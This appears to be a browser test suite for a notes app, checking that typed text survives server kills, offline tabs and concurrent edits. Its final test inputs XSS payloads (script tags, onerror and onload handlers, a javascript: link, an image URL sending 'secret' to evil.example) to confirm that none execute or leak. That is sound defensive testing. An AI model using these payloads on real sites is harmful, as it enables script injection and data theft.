"""Notes as people write them: no word is lost, whatever happens to the server, the network or the tab."""

import asyncio
import re

import pytest
from playwright.async_api import expect

from services.audit import Actor
from services.clock import now
from services.notes import book, lists
from services.sharing import Reader
from tests.browser.screen import LIVE_WITHIN

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def house(own_house):
    return own_house()


def body_of(house, account, note_id):
    def read(db):
        return book.get(db, Reader(account.id, "operator"), note_id, now()).body

    return house.ask(read)


def newest(house, account):
    found = house.ask(
        lambda db: lists.find(db, Reader(account.id, "operator"), lists.Query(), now(), limit=1)
    )
    return found[0].note


async def begin(page_as, house):
    """A new note with the cursor in its title."""
    screen = await page_as("operator", "/notes")
    await screen.page.get_by_test_id("new-note").click()
    await expect(screen.page.get_by_test_id("note-title")).to_be_focused(timeout=LIVE_WITHIN)
    return screen, newest(house, house.person("operator"))


def kept(screen, state):
    return expect(screen.page.locator("[data-k-note]")).to_have_attribute(
        "data-kept", state, timeout=LIVE_WITHIN
    )


async def test_what_is_typed_is_there_at_once_for_whoever_reads_along(page_as, house):
    screen, note = await begin(page_as, house)
    page = screen.page
    await page.keyboard.type("Quando um worker some")
    await page.get_by_test_id("note-body").click()
    await page.keyboard.type("- [ ] um\ndois\n\nfim")
    await kept(screen, "saved")
    assert body_of(house, house.person("operator"), note.id) == "- [ ] um\n- [ ] dois\nfim"
    await expect(page.locator("[data-testid=note-row][aria-current=true] .k-note-name")).to_have_text(
        "Quando um worker some", timeout=LIVE_WITHIN
    )
    await page.get_by_role("button", name="Ler", exact=True).click()
    await page.locator('[data-k-box="1"]').click()
    await expect(page.locator('[data-k-box="1"]')).to_be_checked(timeout=LIVE_WITHIN)
    assert "- [x] dois" in body_of(house, house.person("operator"), note.id)


async def test_what_is_typed_while_the_server_is_killed_arrives_afterwards(page_as, house):
    screen, note = await begin(page_as, house)
    screen.may_lose_network()
    page = screen.page
    await page.get_by_test_id("note-body").click()
    text = ""
    for turn in range(5):
        words = f"palavra {turn} que ninguém perde. "
        await page.keyboard.type(words[:14])
        house.restart_web()  # in the middle of a word
        await page.keyboard.type(words[14:])
        text += words
        await asyncio.to_thread(
            house.until, lambda text=text: body_of(house, house.person("operator"), note.id) == text, 60
        )
    await kept(screen, "saved")
    await screen.is_live()


async def test_a_tab_that_is_closed_without_network_leaves_its_words_to_the_next(page_as, house):
    screen, note = await begin(page_as, house)
    screen.may_lose_network()
    page = screen.page
    await page.get_by_test_id("note-body").click()
    await page.keyboard.type("antes. ")
    await kept(screen, "saved")
    await page.context.set_offline(True)
    await page.keyboard.type("sem rede. ")
    await kept(screen, "away")
    await page.context.set_offline(False)
    await page.route("**/api/v1/notes/**", lambda route: route.abort())
    await page.reload()
    await page.unroute("**/api/v1/notes/**")
    await kept(screen, "saved")
    assert body_of(house, house.person("operator"), note.id) == "antes. sem rede. "


async def test_words_for_a_note_that_is_gone_become_a_note_of_their_own(page_as, house):
    screen, note = await begin(page_as, house)
    screen.may_lose_network()
    page, person = screen.page, house.person("operator")
    await page.get_by_test_id("note-body").click()
    await page.keyboard.type("antes. ")
    await kept(screen, "saved")
    await page.route("**/api/v1/notes/**", lambda route: route.abort())
    await page.keyboard.type("sem rede. ")
    await kept(screen, "away")
    by = Actor("person", person.id, person.name)
    house.ask(lambda db: book.trash(db, Reader(person.id, "operator"), note.id, by, now()))
    # As if that had been half a minute ago.
    await page.evaluate(
        """() => Object.keys(localStorage).filter((key) => key.startsWith("keepai-kept:")).forEach((key) =>
            localStorage.setItem(key, JSON.stringify({ ...JSON.parse(localStorage.getItem(key)), at: 0 })))"""
    )
    await page.unroute("**/api/v1/notes/**")
    await page.goto("/alerts")
    await asyncio.to_thread(house.until, lambda: newest(house, person).body == "antes. sem rede. ", 30)
    assert newest(house, person).id != note.id


async def test_two_tabs_that_write_at_once_keep_both_texts(page_as, house):
    screen, note = await begin(page_as, house)
    screen.may_lose_network()
    page = screen.page
    await page.get_by_test_id("note-body").click()
    await page.keyboard.type("começo")
    await kept(screen, "saved")
    other = await page.context.new_page()
    await other.goto(f"/notes/{note.id.hex}?mode=edit")
    field = other.get_by_test_id("note-body")
    await expect(field).to_have_value("começo", timeout=LIVE_WITHIN)
    await other.route("**/api/v1/notes/**", lambda route: route.abort())
    await field.press("End")
    await other.keyboard.type(" da outra aba")
    await page.keyboard.type(" desta aba")
    await kept(screen, "saved")
    await other.unroute("**/api/v1/notes/**")
    clash = other.get_by_test_id("clash")
    await expect(clash).to_be_visible(timeout=LIVE_WITHIN)
    await expect(clash.locator("ins")).to_have_text("da outra")
    await expect(clash.locator("del")).to_have_text("desta")
    await clash.get_by_role("button", name="Juntar as duas").click()
    await expect(clash).to_be_hidden(timeout=LIVE_WITHIN)
    both = "começo desta aba\n\n---\n\ncomeço da outra aba"
    await expect(field).to_have_value(both, timeout=LIVE_WITHIN)
    await expect(page.get_by_test_id("note-body")).to_have_value(both, timeout=LIVE_WITHIN)
    await other.close()


async def test_a_thought_is_kept_from_every_page_and_once(page_as, house):
    screen = await page_as("operator", "/alerts")
    screen.may_lose_network()
    page = screen.page
    await page.keyboard.press("c")
    await page.keyboard.type("Ligar para o prédio\n\nsobre a energia")
    await page.keyboard.press("Control+Enter")
    form = page.locator("form[data-k-capture]")
    await expect(form).to_have_attribute("data-kept", "saved", timeout=LIVE_WITHIN)
    note = newest(house, house.person("operator"))
    assert (note.title, note.body) == ("Ligar para o prédio", "Ligar para o prédio\n\nsobre a energia")
    await form.get_by_role("link").click()
    await expect(page).to_have_url(re.compile(note.id.hex), timeout=LIVE_WITHIN)


async def test_nothing_that_is_written_runs_or_leaves(page_as, house):
    screen, _note = await begin(page_as, house)
    page, asked = screen.page, []
    page.on("request", lambda request: asked.append(request.url))
    await page.evaluate("window.ran = 0")
    await page.get_by_test_id("note-title").fill("<img src=x onerror=window.ran=1>")
    await page.get_by_test_id("note-body").fill(
        "<script>window.ran = 1</script> <img src=x onerror='window.ran=1'>\n\n"
        "[x](javascript:window.ran=1) ![s](https://evil.example/?note=secret) [[<b onclick=window.ran=1>x</b>]]\n\n"
        "$\\text{<img src=x onerror=window.ran=1>}$ <svg onload=window.ran=1>\n"
    )
    await kept(screen, "saved")
    await page.get_by_role("button", name="Os dois").click()
    await expect(page.locator(".k-prose .k-picture-link")).to_be_visible(timeout=LIVE_WITHIN)
    await page.wait_for_timeout(500)
    assert await page.evaluate("window.ran") == 0
    assert [url for url in asked if not url.startswith(house.address)] == []
